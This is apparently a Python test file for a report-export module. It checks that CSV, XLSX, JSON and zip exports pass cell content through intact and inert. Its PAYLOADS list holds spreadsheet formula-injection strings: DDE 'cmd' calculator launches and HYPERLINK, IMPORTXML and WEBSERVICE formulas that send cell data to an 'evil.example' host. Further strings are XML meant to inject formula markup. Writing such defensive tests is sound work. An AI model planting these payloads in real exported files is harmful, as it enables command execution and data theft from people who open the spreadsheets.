"""Exports as files: what goes in comes out, whatever it is, and nothing in them is ever computed."""

import csv
import json
import re
import unicodedata
from collections.abc import Iterable
from datetime import UTC, datetime
from io import BytesIO, StringIO
from typing import Any
from xml.etree import ElementTree
from zipfile import ZIP_STORED, ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assessment.reports import archive, formats
from assessment.reports.archive import zipped
from assessment.reports.formats import FORMATS, LONGEST_CELL, PIECE, Cell, Column, harmless, writable

NOON = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
COLUMNS = [Column("First", lambda record: record["a"]), Column("Second", lambda record: record["b"])]

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
    '=WEBSERVICE("https://evil.example")',
    "+1+1",
    "+44 20 7946 0000",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@import",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000@x",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x1f-1",
    '"=1+1"',
    "'=1+1",
    "“=1+1”",
    "‘+1",
    "`-1",
    "«@x»",
    '" \t"=1+1',
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    " ＝1",
    "﹦1",
    "−1+1",
    "⁺1",
    "x;=1+1",
    'x; "=1+1',
    "x\t+1",
    "x\r\n@y",
    "x\n-1",
    "x|=1",
)
"""What somebody might leave as their name so that a spreadsheet does something."""

ODD = ' "“”‘’`«\u00a0\u3000\u200b\ufeff\u202e\x00\x1f'

PLAIN = (
    "Brown & Co",
    "'quoted'",
    "a=b",
    "1-2",
    "mail@example.com",
    "– a dash",
    "Yes; no; maybe",
    "x; y",
    "Ünï ",
    "line\nline",
    "0",
    "",
)


def whole(kind: str, rows: Iterable[tuple[Any, Any]], columns: list[Column] = COLUMNS) -> bytes:
    return b"".join(FORMATS[kind].write(columns, [{"a": a, "b": b} for a, b in rows]))


def read_csv(made: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(made.decode("utf-8-sig"), newline=""), strict=True))


def sheets(made: bytes) -> list[ElementTree.Element]:
    with ZipFile(BytesIO(made)) as book:
        assert book.testzip() is None
        names = sorted(name for name in book.namelist() if name.startswith("xl/worksheets/sheet"))
        return [ElementTree.fromstring(book.read(name)) for name in names]


def read_xlsx(made: bytes, number: int = 0) -> list[dict[str, Cell]]:
    """The rows of a sheet by column letter, as a reader of the format has them."""
    rows = sheets(made)[number].iter(f"{SHEET}row")
    return [{re.sub(r"\d", "", cell.get("r") or ""): value(cell) for cell in row} for row in rows]


def value(cell: ElementTree.Element) -> Cell:
    if cell.get("t") == "inlineStr":
        found = "".join(text.text or "" for text in cell.iter(f"{SHEET}t"))
        return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match[1], 16)), found)
    number = cell.find(f"{SHEET}v")
    assert number is not None
    return int(number.text or "")


def begins_a_formula(text: str) -> bool:
    """Said another way than the code does: what a spreadsheet would look at first."""
    return unicodedata.normalize("NFKC", text)[:1] in ("=", "+", "-", "@", "\u2212", "\t", "\r", "\n")


CELLS = st.one_of(st.text(max_size=40), st.integers(0, 10**9), st.none(), st.sampled_from(PAYLOADS + PLAIN))
ROWS = st.lists(st.tuples(CELLS, CELLS), max_size=8)


@given(ROWS)
def test_a_csv_says_what_went_in_with_at_most_apostrophes_more(rows: list[tuple[Cell, Cell]]) -> None:
    header, *found = read_csv(whole("csv", rows))
    assert header == ["First", "Second"]
    wanted = [[str(harmless("" if cell is None else cell)) for cell in row] for row in rows]
    assert found == [[cell.encode("utf-8", "replace").decode() for cell in row] for row in wanted]
    for row, texts in zip(rows, found, strict=True):
        for cell, text in zip(row, texts, strict=True):
            if isinstance(cell, str):
                assert text.replace("'", "") == cell.encode("utf-8", "replace").decode().replace("'", "")
                assert not begins_a_formula(text)


@given(ROWS)
def test_an_xlsx_says_what_went_in_as_texts_and_numbers(rows: list[tuple[Cell, Cell]]) -> None:
    made = whole("xlsx", rows)
    header, *found = read_xlsx(made)
    assert header == {"A": "First", "B": "Second"}
    shown = [
        {
            name: cell if isinstance(cell, int) else writable(cell)
            for name, cell in zip("AB", row, strict=True)
            if cell not in (None, "")
        }
        for row in rows
    ]
    assert [row for row in found if row] == [
        {name: cell for name, cell in row.items() if cell != "" or name in got}
        for row, got in zip([row for row in shown if row], [row for row in found if row], strict=True)
    ]
    assert nothing_computes(made)


def nothing_computes(made: bytes) -> bool:
    return not [node for sheet in sheets(made) for name in ("f", "hyperlink") for node in sheet.iter(f"{SHEET}{name}")]


@given(st.lists(st.tuples(CELLS, CELLS), max_size=5))
def test_json_is_one_array_of_what_went_in(rows: list[tuple[Cell, Cell]]) -> None:
    found = json.loads(whole("json", rows))
    wanted = [{"a": a, "b": b} for a, b in rows]
    assert found == json.loads(json.dumps(wanted, ensure_ascii=False).encode("utf-8", "replace"))


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_what_would_be_a_formula_is_a_text(payload: str) -> None:
    text = read_csv(whole("csv", [(payload, 1)]))[1][0]
    assert text != payload
    assert not begins_a_formula(text)
    for part in re.split(r"[;|\t\r\n]", text):
        assert not begins_a_formula(part.lstrip(ODD)), "an apostrophe stands before it"
    made = whole("xlsx", [(payload, 1)])
    assert nothing_computes(made)
    assert read_xlsx(made)[1]["A"] == writable(payload)


@pytest.mark.parametrize("text", PLAIN, ids=ascii)
def test_what_is_none_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_every_sign_that_may_be_read_as_one_is_closed_in_all_of_unicode() -> None:
    assert not [
        hex(number)
        for number in range(0x110000)
        if not 0xD800 <= number < 0xE000
        and begins_a_formula(chr(number))
        and harmless(f"{chr(number)}1") == f"{chr(number)}1"
    ]


@pytest.mark.parametrize(
    "text",
    [
        "<r><t>x</t></r>",
        '<r></t></is></c><c r="C2"><f>1+1</f></c><c r="D2" t="inlineStr"><is><t></r>',
        "<f>1+1</f>",
        "]]>",
        "&lt;",
        "_x0041_",
        "_x003D_1+1",
    ],
)
def test_a_text_that_looks_like_markup_is_a_text(text: str) -> None:
    made = whole("xlsx", [(text, text)])
    assert nothing_computes(made)
    assert read_xlsx(made)[1] == {"A": writable(text), "B": writable(text)}
    assert writable(text).rstrip() == text


def test_numbers_stay_numbers() -> None:
    assert read_csv(whole("csv", [(41, 0)]))[1] == ["41", "0"]
    assert read_xlsx(whole("xlsx", [(41, 0)]))[1] == {"A": 41, "B": 0}


def test_what_a_workbook_cannot_hold_is_left_out_and_what_is_too_long_is_cut() -> None:
    assert writable("a\x00b\x0bc\ud800d\uffff\r\ne\rf") == "abcd\ne\nf"
    for letter in ("a", "é", "😀", "漢"):
        cut = writable(letter * 40_000)
        units = len(cut.encode("utf-16-le")) // 2
        assert LONGEST_CELL - 2 < units <= LONGEST_CELL
        assert set(cut) == {letter}
        assert read_xlsx(whole("xlsx", [(letter * 40_000, 1)]))[1]["A"] == cut
    assert len(writable(f"<r>{'x' * 40_000}</r>")) <= LONGEST_CELL


def test_the_first_row_stays_in_sight_and_can_be_filtered() -> None:
    (sheet,) = sheets(whole("xlsx", [("a", "b"), ("c", "d")]))
    pane = next(sheet.iter(f"{SHEET}pane"))
    assert (pane.get("ySplit"), pane.get("state")) == ("1", "frozen")
    assert [node.get("ref") for node in sheet.iter(f"{SHEET}autoFilter")] == ["A1:B3"]
    assert [float(node.get("width") or 0) > 10 for node in sheet.iter(f"{SHEET}col")] != []


def test_more_rows_than_fit_go_on_on_the_next_sheet(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(formats, "MOST_ROWS", 3)
    for count, wanted in ((3, [4]), (4, [4, 2]), (6, [4, 4]), (7, [4, 4, 2]), (0, [1])):
        made = whole("xlsx", [(number, "x") for number in range(1, count + 1)])
        assert [len(read_xlsx(made, number)) for number in range(len(sheets(made)))] == wanted
        seen = [row["A"] for number in range(len(wanted)) for row in read_xlsx(made, number)[1:]]
        assert seen == list(range(1, count + 1))


@pytest.mark.parametrize("kind", ["csv", "json"])
def test_a_table_comes_in_pieces_as_its_rows_do(kind: str) -> None:
    read = []

    def rows() -> Iterable[dict[str, Any]]:
        for number in range(2_000):
            read.append(number)
            yield {"a": "x" * 100, "b": number}

    pieces = FORMATS[kind].write(COLUMNS, rows())
    first = next(pieces)
    assert PIECE <= len(first) < 2 * PIECE
    assert len(read) < 700
    assert sum(map(len, pieces)) > PIECE


@pytest.mark.parametrize("kind", list(FORMATS))
def test_what_breaks_on_the_way_never_looks_whole(kind: str) -> None:
    def rows() -> Iterable[dict[str, Any]]:
        yield from ({"a": "x" * 100, "b": number} for number in range(2_000))
        raise ConnectionError

    made: list[bytes] = []
    with pytest.raises(ConnectionError):
        made.extend(FORMATS[kind].write(COLUMNS, rows()))
    assert kind != "xlsx" or made == [], "a workbook is whole before its first byte"
    if kind == "json":
        with pytest.raises(ValueError):
            json.loads(b"".join(made))


def test_an_empty_list_is_a_header_or_an_empty_array() -> None:
    assert read_csv(whole("csv", [])) == [["First", "Second"]]
    assert read_xlsx(whole("xlsx", [])) == [{"A": "First", "B": "Second"}]
    assert json.loads(whole("json", [])) == []


def test_nothing_is_left_behind(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    pieces = FORMATS["xlsx"].write(COLUMNS, [{"a": "x" * 30_000, "b": str(number) * 500} for number in range(500)])
    next(pieces)
    assert list(tmp_path.iterdir())
    pieces.close()  # type: ignore[attr-defined]  # a browser that went away
    assert list(tmp_path.iterdir()) == []


@given(st.lists(st.tuples(st.sampled_from(["a.pdf", "b.pdf", "a-2.pdf", "c"]), st.binary(max_size=200)), max_size=9))
def test_a_zip_has_every_file_under_a_name_of_its_own(files: list[tuple[str, bytes]]) -> None:
    pieces = list(zipped((name, NOON, content) for name, content in files))
    with ZipFile(BytesIO(b"".join(pieces))) as found:
        assert found.testzip() is None
        assert len(set(found.namelist())) == len(files)
        assert [found.read(name) for name in found.namelist()] == [content for _, content in files]
        assert {one.compress_type for one in found.infolist()} <= {ZIP_STORED}
        assert {one.flag_bits & 0x08 for one in found.infolist()} <= {0}, "sizes stand before the content"
        assert {one.date_time for one in found.infolist()} <= {NOON.timetuple()[:6]}
    assert len(pieces) == len(files) + 1


def test_a_zip_holds_one_file_at_a_time() -> None:
    content, outlets = b"x" * 1_000_000, []
    original = archive._Outlet

    class Watched(original):  # type: ignore[misc, valid-type]
        def take(self) -> bytes:
            outlets.append(self.getbuffer().nbytes)
            return super().take()  # type: ignore[no-any-return]

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(archive, "_Outlet", Watched)
        total = sum(len(piece) for piece in zipped((f"{number}.pdf", NOON, content) for number in range(20)))
    assert total > 20_000_000
    assert max(outlets) < 1_100_000


def test_a_zip_that_breaks_on_the_way_cannot_be_opened() -> None:
    def files() -> Iterable[tuple[str, Any, bytes]]:
        yield "a.pdf", NOON, b"a"
        raise ConnectionError

    made: list[bytes] = []
    with pytest.raises(ConnectionError):
        made.extend(zipped(files()))
    with pytest.raises(Exception, match="not a zip file"):
        ZipFile(BytesIO(b"".join(made)))
